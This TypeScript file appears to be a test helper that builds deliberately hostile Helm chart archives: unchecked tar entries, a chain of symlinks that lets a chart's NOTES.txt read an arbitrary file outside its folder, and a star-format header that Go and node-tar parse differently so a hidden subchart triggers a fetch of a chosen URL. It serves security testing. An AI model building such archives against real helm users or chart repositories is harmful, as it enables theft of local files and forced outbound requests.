// A tar.gz written entry by entry with no checks, for tests: what a hostile client or chart repository could
// send (links, devices, `..` paths), which writeTarGz never writes.
import { gunzipSync, gzipSync } from 'node:zlib';
import { Header } from 'tar';

export interface RawEntry {
  path: string;
  content?: Buffer;
  type?: 'File' | 'SymbolicLink' | 'Link' | 'CharacterDevice' | 'FIFO' | 'Directory';
  linkpath?: string;
}

/** A tar.gz written entry by entry, with no checks. */
export function rawTarGz(entries: readonly RawEntry[]): Buffer {
  const blocks: Buffer[] = [];
  for (const entry of entries) {
    const content = entry.content ?? Buffer.alloc(0);
    const header = new Header({
      path: entry.path,
      mode: 0o644,
      size: content.length,
      mtime: new Date(0),
      type: entry.type ?? 'File',
      ...(entry.linkpath === undefined ? {} : { linkpath: entry.linkpath }),
    });
    header.encode();
    blocks.push(header.block as Buffer, content, Buffer.alloc((512 - (content.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return gzipSync(Buffer.concat(blocks));
}

/**
 * A chart whose NOTES.txt reads `target` (an absolute path) through a chain of links, review 8's item 1:
 * `u0 -> ..`, `u1 -> u0/..`, …, `files/k -> ../u10<target>`. Each link's target reads as inside the folder
 * (node-tar checks no more), but on disk u10 is eleven folders up, so helm following files/k reads `target`.
 * `.helmignore` keeps helm from walking the links.
 */
export function linkChainChart(top: string, target: string): Buffer {
  const file = (path: string, content: string): RawEntry => ({
    path: `${top}/${path}`,
    content: Buffer.from(content),
  });
  return rawTarGz([
    { path: `${top}/`, type: 'Directory' },
    file('Chart.yaml', `apiVersion: v2\nname: ${top}\nversion: 0.1.0\n`),
    file('.helmignore', 'u*\n'),
    { path: `${top}/files/`, type: 'Directory' },
    { path: `${top}/files/k`, type: 'SymbolicLink', linkpath: `../u10${target}` },
    { path: `${top}/templates/`, type: 'Directory' },
    file('templates/NOTES.txt', '{{ .Files.Get "files/k" }}'),
    // Each link before the one it names: node-tar refuses to create a link through one that exists already.
    ...Array.from({ length: 11 }, (_, i): RawEntry => ({
      path: `${top}/u${10 - i}`,
      type: 'SymbolicLink',
      linkpath: i === 10 ? '..' : `u${9 - i}/..`,
    })),
  ]);
}

/**
 * One ustar entry with star's trailer (`tar\0` at offset 508), a 131-byte `prefix` and atime `1`, review 9's
 * item 2: Go's archive/tar reads a star prefix as 131 bytes (`<prefix>/<name>`), node-tar reads 155 when the
 * prefix's last byte is not NUL, so the atime digit joins the prefix (`<prefix>1/<name>`).
 */
function starEntry(prefix: string, name: string, content: Buffer): Buffer {
  if (prefix.length !== 131) throw new Error('a star prefix fills 131 bytes');
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write('0000644\0', 100);
  header.write('0000000\0', 108);
  header.write('0000000\0', 116);
  header.write(`${content.length.toString(8).padStart(11, '0')}\0`, 124);
  header.write('00000000000\0', 136);
  header.write('0', 156);
  header.write('ustar\u000000', 257);
  header.write(prefix, 345);
  header.write('1', 476);
  header.write('1', 488);
  header.write('tar\0', 508);
  header.write(' '.repeat(8), 148);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return Buffer.concat([header, content, Buffer.alloc((512 - (content.length % 512)) % 512)]);
}

/**
 * A chart `top` whose subchart archive charts/sub.tgz holds, under a star header (see starEntry), a subchart
 * archive that Go reads as `charts/hidden.tgz` and node-tar as `charts1/hidden.tgz`; its values schema has a
 * `$ref` to `url`, which helm loads when it reads the subchart.
 */
export function starPrefixChart(top: string, url: string): Buffer {
  const subTop = 'S'.repeat(124);
  const hidden = rawTarGz([
    { path: 'hidden/Chart.yaml', content: Buffer.from('apiVersion: v2\nname: hidden\nversion: 0.1.0\n') },
    { path: 'hidden/values.schema.json', content: Buffer.from(JSON.stringify({ $ref: url })) },
  ]);
  const subChart = gunzipSync(
    rawTarGz([
      { path: `${subTop}/Chart.yaml`, content: Buffer.from('apiVersion: v2\nname: sub\nversion: 0.1.0\n') },
    ]),
  );
  // The sub archive's entries without its end blocks, then the star entry, then the end.
  const entries = subChart.subarray(0, subChart.length - 1024);
  const sub = gzipSync(
    Buffer.concat([entries, starEntry(`${subTop}/charts`, 'hidden.tgz', hidden), Buffer.alloc(1024)]),
  );
  return rawTarGz([
    { path: `${top}/Chart.yaml`, content: Buffer.from(`apiVersion: v2\nname: ${top}\nversion: 0.1.0\n`) },
    { path: `${top}/charts/sub.tgz`, content: sub },
  ]);
}
